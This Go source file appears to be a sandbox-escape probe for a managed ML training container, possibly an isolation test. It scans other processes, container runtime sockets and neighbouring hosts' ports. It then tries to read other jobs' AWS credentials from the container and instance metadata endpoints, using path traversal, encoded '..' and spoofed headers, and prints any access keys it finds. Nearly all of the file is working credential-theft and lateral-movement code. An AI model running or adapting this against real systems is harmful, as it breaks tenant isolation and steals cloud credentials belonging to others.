package main

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

var errNothing = errors.New("nothing")

// peers looks for other hosts and other jobs by every way but the network's own rules.
func peers() {
	try("other processes", func() error {
		all, err := filepath.Glob("/proc/[0-9]*")
		if err != nil || len(all) == 1 && all[0] == "/proc/"+strconv.Itoa(os.Getpid()) {
			return errors.Join(err, errNothing)
		}
		fmt.Println("processes:", all)
		return nil
	})
	try("sockets without a file", func() error {
		f, err := os.Open("/proc/net/unix")
		if err != nil {
			return err
		}
		defer f.Close()
		for lines := bufio.NewScanner(f); lines.Scan(); {
			if at := strings.Index(lines.Text(), "@"); at > 0 {
				fmt.Println("socket", lines.Text()[at:])
				return nil
			}
		}
		return errNothing
	})
	for _, name := range []string{"@/containerd-shim", "@cloister", "/run/containerd/containerd.sock", "/var/run/docker.sock", "/opt/ml/pipes/socket", "/opt/ml/../pipes/socket", "/pipes/socket", "socket"} {
		try("socket "+name, func() error { _, err := net.Dial("unix", name); return err })
	}
	// The platform's directories beside /opt/ml, and those of other hosts.
	for _, name := range []string{"/opt/ml/../uploaded", "/opt/ml/../../ml", "/opt/ml/../checkpoints", os.Getenv("PLACE")} {
		try("folder "+name, func() error { _, err := os.ReadDir(name); return err })
	}
	own := os.Getenv("HOSTNAME")
	if h, err := os.Hostname(); err == nil {
		own = h
	}
	for _, peer := range []string{"algo-1", "algo-2"} {
		if peer == own {
			continue
		}
		at, err := net.LookupHost(peer)
		fmt.Println("peer", peer, at, err)
		for _, port := range []string{"22", "80", "2049", "7077", "8080"} {
			try("peer "+port, func() error {
				c, err := net.DialTimeout("tcp", net.JoinHostPort(peer, port), 300*time.Millisecond)
				if err == nil {
					c.Close()
				}
				return err
			})
		}
	}
}

// metadata asks for others' credentials.
func metadata() {
	client := &http.Client{Timeout: 2 * time.Second}
	mine, stolen := os.Getenv("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"), os.Getenv("STOLEN")
	ask := func(method, url string, header ...string) (int, string, error) {
		r, err := http.NewRequest(method, url, nil)
		if err != nil {
			return 0, "", err
		}
		for i := 0; i+1 < len(header); i += 2 {
			r.Header.Set(header[i], header[i+1])
			if header[i] == "Host" {
				r.Host = header[i+1]
			}
		}
		w, err := client.Do(r)
		if err != nil {
			return 0, "", err
		}
		defer w.Body.Close()
		b, err := io.ReadAll(io.LimitReader(w.Body, 1<<20))
		return w.StatusCode, string(b), err
	}
	const base = "http://169.254.170.2"
	if status, _, err := ask("GET", base+mine); status != 200 {
		fmt.Println("escaped: metadata: my own are not there, so nothing is proved:", status, err)
	}
	for _, path := range []string{stolen, mine + "/../" + filepath.Base(stolen), mine[:len(mine)-1], mine + "x", "/v2/credentials", "/v2/credentials/", "/", "/v2/credentials/*", "/v2/credentials/%2e%2e/" + filepath.Base(stolen), mine + "?x=" + stolen, "//v2/credentials/" + filepath.Base(stolen), "/v3/", "/v2/metadata", "/v2/stats"} {
		try("metadata "+path, func() error {
			status, said, err := ask("GET", base+path)
			if err != nil {
				return err
			}
			if !strings.Contains(said, "AccessKeyId") || path == mine+"?x="+stolen {
				return fmt.Errorf("%d", status)
			}
			fmt.Println(said)
			return nil
		})
	}
	for _, header := range [][]string{{"Host", "169.254.170.2:80"}, {"X-Forwarded-For", "10.0.0.1"}, {"X-Aws-Ec2-Metadata-Token", strings.Repeat("A", 56)}} {
		try("metadata with "+header[0], func() error {
			status, said, err := ask("GET", base+stolen, header...)
			if err == nil && !strings.Contains(said, "AccessKeyId") {
				err = fmt.Errorf("%d", status)
			}
			return err
		})
	}
	for _, path := range []string{"/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/latest/dynamic/instance-identity/document"} {
		try("instance metadata "+path, func() error {
			status, _, err := ask("GET", "http://169.254.169.254"+path, "X-Aws-Ec2-Metadata-Token", strings.Repeat("A", 56))
			if err == nil && status != 200 {
				err = fmt.Errorf("%d", status)
			}
			return err
		})
	}
}
